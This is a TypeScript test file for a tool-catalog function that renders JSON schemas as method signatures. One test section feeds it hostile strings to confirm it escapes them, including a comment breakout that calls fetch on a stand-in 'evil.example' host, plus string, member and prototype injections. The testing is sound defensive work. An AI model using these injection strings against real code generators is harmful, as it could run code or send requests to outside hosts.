import { transformSync } from 'esbuild'
import { describe, expect, test } from 'vitest'
import type { JsonSchema } from '#contracts/json.ts'
import { bundledPlugins } from '../../../src/bundled.gen.ts'
import { namesIn } from '../../../src/runtime/catalog/toolset.ts'
import { toSignature } from '../../../src/runtime/catalog/signatures.ts'
import { createRandom } from '../../fakes/random.ts'

const signatureOf = (
  inputSchema: JsonSchema,
  {
    name = 'kv__get',
    description = 'Does it.',
    outputSchema,
  }: Partial<{
    name: string
    description: string
    outputSchema: JsonSchema
  }> = {},
) =>
  toSignature({
    name,
    description,
    inputSchema,
    ...(outputSchema && { outputSchema }),
    execute: async () => ({ ok: true, output: null }),
  })
const typeOf = (schema: JsonSchema) =>
  /value: (.*) \}\): Promise<unknown>$/.exec(
    signatureOf({ type: 'object', properties: { value: schema }, required: ['value'] }),
  )?.[1]

/** Whether TypeScript takes it for one comment and one method, and nothing else. */
function isOneMethod(signature: string, path: string): boolean {
  const [comment = '', line = '', ...rest] = signature.split('\n')
  expect(rest).toEqual([])
  expect(line.startsWith(path)).toBe(true)
  expect(comment).toMatch(/^\/\*\* .*\*\/$/)
  const code = `class Before { ${comment} m${line.slice(path.length)} }\nconsole.log(1)`
  // In an interface the method is a type: only the code after it is left as JavaScript.
  const asType = code.replace('class Before', 'interface Before')
  return transformSync(asType, { loader: 'ts' }).code === 'console.log(1);\n'
}

describe('a signature', () => {
  test('has the name, the input with its optional members, and what comes back', () => {
    const input = {
      type: 'object',
      properties: {
        path: { type: 'string', minLength: 1, description: 'Relative path.' },
        maxChars: { type: 'integer' },
      },
      required: ['path'],
      additionalProperties: false,
    }
    const outputSchema = {
      type: 'object',
      properties: { text: { type: 'string' } },
      required: ['text'],
    }
    const description = 'Read a text file.\nDO NOT use for pages.'
    expect(signatureOf(input, { name: 'files__read', description, outputSchema })).toBe(
      '/** Read a text file. DO NOT use for pages. */\n' +
        'tools.files.read(input: { path: string /* Relative path. */; maxChars?: number }): Promise<{ text: string }>',
    )
  })

  test.each([
    [{ type: 'object', properties: { a: { type: 'string' } } }, '(input?: { a?: string })'],
    [{ type: 'object', properties: {}, additionalProperties: false }, '()'],
    [{ type: 'object' }, '(input?: Record<string, unknown>)'],
    [
      { type: 'object', additionalProperties: { type: 'number' } },
      '(input?: Record<string, number>)',
    ],
  ])('leaves out input that is not required: %j', (schema, shown) => {
    expect(signatureOf(schema)).toContain(`tools.kv.get${shown}: Promise`)
  })

  test.each<[JsonSchema, string]>([
    [{ type: 'integer' }, 'number'],
    [{ type: ['string', 'null'] }, '(string | null)'],
    [{ enum: ['a', 2, null] }, '"a" | 2 | null'],
    [{ const: 'x' }, '"x"'],
    [{ type: 'array', items: { type: 'string' } }, 'string[]'],
    [{ type: 'array', items: { enum: ['a', 'b'] } }, '("a" | "b")[]'],
    [{ type: 'array' }, 'unknown[]'],
    [{ anyOf: [{ type: 'string' }, { type: 'number' }] }, '(string | number)'],
    [{ oneOf: [{ type: 'string' }, {}] }, 'unknown'],
    [
      {
        allOf: [
          { type: 'object', properties: { a: true } },
          { type: 'object', properties: { b: false } },
        ],
      },
      '{ a?: unknown } & { b?: never }',
    ],
    [{ properties: { a: { type: 'boolean' } }, required: ['a'] }, '{ a: boolean }'],
    [{ type: 'string', enum: Array.from({ length: 99 }, (_, at) => `v${at}`) }, 'string'],
    [{}, 'unknown'],
    [{ type: 'date' }, 'unknown'],
    [{ $ref: '#/$defs/nowhere' }, 'unknown'],
    [{ $ref: 'https://example.com/a.json' }, 'unknown'],
  ])('says %j as a type', (schema, type) => {
    expect(typeOf(schema)).toBe(type)
  })

  test('follows references within the schema, also to itself, and ends', () => {
    const node = { type: 'object', properties: { next: { $ref: '#/$defs/node' } } }
    const signature = signatureOf({ $ref: '#/$defs/node', $defs: { node } })
    expect(signature).toMatch(/\{ next\?: \{ next\?: .*unknown/)
    const wide = Object.fromEntries(
      Array.from({ length: 40 }, (_, at) => [`p${at}`, { $ref: '#' }]),
    )
    expect(signatureOf({ type: 'object', properties: wide }).length).toBeLessThan(5_000)
  })

  test.each([
    ['web-search__search', 'tools["web-search"].search('],
    ['srv__get-it', 'tools.srv["get-it"]('],
    ['srv__1st', 'tools.srv["1st"]('],
    ['a__b__c', 'tools.a.b__c('],
    ['plain', 'tools.call(name: "plain", input?: Record<string, unknown>)'],
    ['__x', 'tools.call(name: "__x", '],
    ['call__me', 'tools.call(name: "call__me", '],
    ['kv__then', 'tools.call(name: "kv__then", '],
  ])('names %s as code reaches it', (name, path) => {
    expect(signatureOf({ type: 'object' }, { name })).toContain(path)
  })

  test('is the same each time, for each tool that ships', () => {
    const tools = bundledPlugins.flatMap(({ manifest }) => {
      const { id, contributes } = manifest as {
        id: string
        contributes?: { tools?: { name: string; description: string; input_schema?: JsonSchema }[] }
      }
      return (contributes?.tools ?? []).map(
        ({ name, description, input_schema: schema = { type: 'object' } }) =>
          [`${id}__${name}`, description, schema] as const,
      )
    })
    expect(tools.length).toBeGreaterThan(15)
    for (const [name, description, schema] of tools) {
      const signature = signatureOf(schema, { name, description })
      expect(signatureOf(schema, { name, description })).toBe(signature)
      const [owner = '', tool] = name.split('__')
      const path = /^\w+$/.test(owner) ? `tools.${owner}.${tool}` : `tools["${owner}"].${tool}`
      expect(isOneMethod(signature, path)).toBe(true)
    }
  })
})

describe('T11: hostile texts and names', () => {
  const evil = [
    '*/ }; fetch("https://evil.example"); /*',
    '**//**/ alert(1)',
    '* /',
    '*',
    '/',
    'a\nb\r\nc\u2028d\u2029e',
    '`${process.env}`',
    '"; throw 1; "',
    "'",
    '\\',
    '\\u002a/',
    '\u202e gnirts a\u202c',
    '\0',
    '<!-- -->',
    '})): void; evil(): void; ({',
    '\ud800',
    '//',
    '?: never; x',
    '__proto__',
    'constructor',
    '',
  ]

  test.each(evil)('%j ends no comment, string, member or line', (text) => {
    const schema = {
      type: 'object',
      description: text,
      properties: {
        [text]: { type: 'string', description: text },
        listed: { enum: [text, text + text] },
        fixed: { const: text },
        odd: { type: text, $ref: text },
        below: { type: 'object', properties: { [text]: { description: text } }, required: [text] },
      },
      required: [text],
    }
    const signature = signatureOf(schema, { description: text, outputSchema: schema })
    expect(isOneMethod(signature, 'tools.kv.get')).toBe(true)
    expect(signature).not.toMatch(/[\u2028\u2029\u202e\u202c\0\r]/)
  })

  test('any texts of these put together', () => {
    const random = createRandom(7)
    const some = () =>
      Array.from(
        { length: 1 + Math.floor(random.next() * 4) },
        () => evil[Math.floor(random.next() * evil.length)],
      ).join('')
    for (let round = 0; round < 300; round += 1) {
      const schema = {
        type: 'object',
        properties: {
          [some()]: { type: ['string', some()], description: some() },
          [some()]: { enum: [some(), some()] },
        },
      }
      expect(isOneMethod(signatureOf(schema, { description: some() }), 'tools.kv.get')).toBe(true)
    }
  })
})

describe('the names that code says', () => {
  test('are found in each way to say them, once', () => {
    const code = `await tools.kv.get({ key: 'a' }); await tools["web-search"].search({}); await tools['a']['b-c']({})
      const name = "files__read"; await tools.call('sql__query', {}); await tools.kv.get({})`
    expect(namesIn(code)).toEqual([
      'kv__get',
      'web-search__search',
      'a__b-c',
      'files__read',
      'sql__query',
    ])
  })

  test('are none of odd code, and no more than 50', () => {
    expect(namesIn('return 1 // tools.kv')).toEqual([])
    const many = Array.from({ length: 99 }, (_, at) => `tools.kv.get${at}({})`).join('\n')
    expect(namesIn(many)).toHaveLength(50)
  })
})
